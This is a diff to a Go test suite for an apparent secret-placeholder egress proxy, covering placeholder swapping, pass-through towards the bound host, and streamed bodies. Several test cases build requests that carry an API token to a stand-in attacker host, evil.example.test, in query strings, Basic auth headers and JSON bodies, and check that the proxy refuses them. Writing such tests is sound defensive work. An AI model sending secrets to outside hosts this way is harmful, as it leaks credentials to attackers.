@@ -80,9 +80,6 @@ func TestPlaceholderViolations(t *testing.T) {
 		{"other host, url-encoded query", "evil.example.test", "https://evil.example.test/?k=" + url.QueryEscape("%68") + "x&j=" + strings.ReplaceAll(url.QueryEscape(tok), "h", "%68"), "", nil, "query"},
 		{"other host, basic", "evil.example.test", "https://evil.example.test/", "", map[string]string{"Authorization": "Basic " + b64}, "header:authorization"},
 		{"other host, json body", "evil.example.test", "https://evil.example.test/", `{"key":"` + ph + `"}`, nil, "body"},
-		{"allowed host, custom header", "api.example.test", "https://api.example.test/", "", map[string]string{"X-Note": ph}, "header:x-note"},
-		{"allowed host, body", "api.example.test", "https://api.example.test/upload", `{"key":"` + ph + `"}`, nil, "body"},
-		{"allowed host, path", "api.example.test", "https://api.example.test/" + ph, "", nil, "path"},
 	} {
 		s, _ := testSet(t, nil, "")
 		// Rebind the set to this test's token.
@@ -94,6 +91,34 @@ func TestPlaceholderViolations(t *testing.T) {
 		}
 		if strings.Contains(r.Header.Get("Authorization")+r.Header.Get("X-Key")+r.URL.String(), realKey) {
 			t.Errorf("%s: real value written into a refused request", tc.name)
+		}
+	}
+}
+
+// TestPlaceholderBoundHostOutOfScope: towards its own host, a placeholder outside the swap
+// scope (EGRESS.md §10 abuse test 6) is sent unchanged and reported with action pass.
+func TestPlaceholderBoundHostOutOfScope(t *testing.T) {
+	_, ph := testSet(t, nil, "")
+	tok := strings.TrimPrefix(ph, "sk-")
+	for _, tc := range []struct {
+		name, target, body string
+		hdr                map[string]string
+		loc                string
+	}{
+		{"custom header", "https://api.example.test/", "", map[string]string{"X-Note": ph}, "header:x-note"},
+		{"body", "https://api.example.test/upload", `{"key":"` + ph + `"}`, nil, "body"},
+		{"path", "https://api.example.test/" + ph, "", nil, "path"},
+	} {
+		s := NewSet([]policy.Placeholder{{Secret: "OPENAI", Hosts: []string{"api.example.test"}, Prefix: "sk-"}}, map[string]string{"OPENAI": tok})
+		r := newReq(t, "POST", tc.target, tc.body, tc.hdr)
+		res, err := s.Apply(context.Background(), "api.example.test", r, value)
+		if err != nil || len(res.Violations) != 1 || res.Violations[0].Location != tc.loc || res.Violations[0].Action != OnViolationPass || len(res.Swapped) != 0 {
+			t.Errorf("%s: err %v result %+v", tc.name, err, res)
+		}
+		b, _ := io.ReadAll(r.Body)
+		all := r.Header.Get("X-Note") + r.URL.String() + string(b)
+		if strings.Contains(all, realKey) || !strings.Contains(all, tok) {
+			t.Errorf("%s: request not left unchanged: %q", tc.name, all)
 		}
 	}
 }
@@ -112,17 +137,30 @@ func TestPlaceholderPassAndBodyScope(t *testing.T) {
 	if r.Header.Get("Authorization") != "Bearer "+ph {
 		t.Fatal("out-of-scope header swapped")
 	}
-	// A streamed (unknown length) body with a marker split across reads fails.
-	s2, ph2 := testSet(t, nil, "")
-	pr, pw := io.Pipe()
-	go func() { pw.Write([]byte("aaaa" + ph2[:6])); pw.Write([]byte(ph2[6:] + "zz")); pw.Close() }()
-	r2, _ := http.NewRequest("POST", "https://api.example.test/", pr)
-	r2.ContentLength = -1
-	if _, err := s2.Apply(context.Background(), "api.example.test", r2, value); err != nil {
-		t.Fatal(err)
-	}
-	if _, err := io.ReadAll(r2.Body); !errors.Is(err, ErrViolation) {
-		t.Fatalf("streamed marker: %v", err)
+	// A streamed (unknown length) body with a marker split across reads fails where the
+	// placeholder would have to be swapped (body scope) or blocked (another host), and passes
+	// unchanged towards its own host outside the body scope.
+	for _, tc := range []struct {
+		host  string
+		scope []string
+		fails bool
+	}{
+		{"api.example.test", []string{"body"}, true},
+		{"evil.example.test", nil, true},
+		{"api.example.test", nil, false},
+	} {
+		s2, ph2 := testSet(t, tc.scope, "")
+		pr, pw := io.Pipe()
+		go func() { pw.Write([]byte("aaaa" + ph2[:6])); pw.Write([]byte(ph2[6:] + "zz")); pw.Close() }()
+		r2, _ := http.NewRequest("POST", "https://"+tc.host+"/", pr)
+		r2.ContentLength = -1
+		if _, err := s2.Apply(context.Background(), tc.host, r2, value); err != nil {
+			t.Fatal(err)
+		}
+		b, err := io.ReadAll(r2.Body)
+		if tc.fails != errors.Is(err, ErrViolation) || (!tc.fails && string(b) != "aaaa"+ph2+"zz") {
+			t.Fatalf("streamed marker towards %s (scope %v): %v %q", tc.host, tc.scope, err, b)
+		}
 	}
 	// block_and_stop asks for a stop.
 	s3, ph3 := testSet(t, nil, OnViolationBlockAndStop)
